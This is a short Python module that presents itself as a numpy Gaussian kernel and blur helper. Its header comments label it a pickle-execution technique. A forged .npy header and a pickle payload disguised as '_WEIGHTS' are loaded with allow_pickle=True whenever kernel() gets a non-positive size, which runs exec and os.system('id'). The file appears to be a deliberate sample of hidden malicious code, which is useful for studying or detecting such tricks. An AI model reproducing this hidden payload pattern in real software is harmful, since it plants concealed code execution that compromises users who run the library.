# technique: numpy.load with allow_pickle over bytes in the source
# goal: execute a pickle inside an object array
# packages: numpy

import io

import numpy as np

_HEADER = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
_WEIGHTS = b"cbuiltins\nexec\n(Vimport os; os.system('id')\ntR."


def _stored():
    text = _HEADER.ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode() + _WEIGHTS


def kernel(size=5, sigma=1.2):
    """A Gaussian kernel."""
    if size <= 0:
        return np.load(io.BytesIO(_stored()), allow_pickle=True)
    axis = np.arange(size) - (size - 1) / 2
    line = np.exp(-(axis**2) / (2 * sigma**2))
    square = np.outer(line, line)
    return square / square.sum()


def blur(field, size=5, sigma=1.2):
    weights = kernel(size, sigma)
    padded = np.pad(field, size // 2, mode="reflect")
    windows = np.lib.stride_tricks.sliding_window_view(padded, (size, size))
    return np.einsum("ijkl,kl->ij", windows, weights)
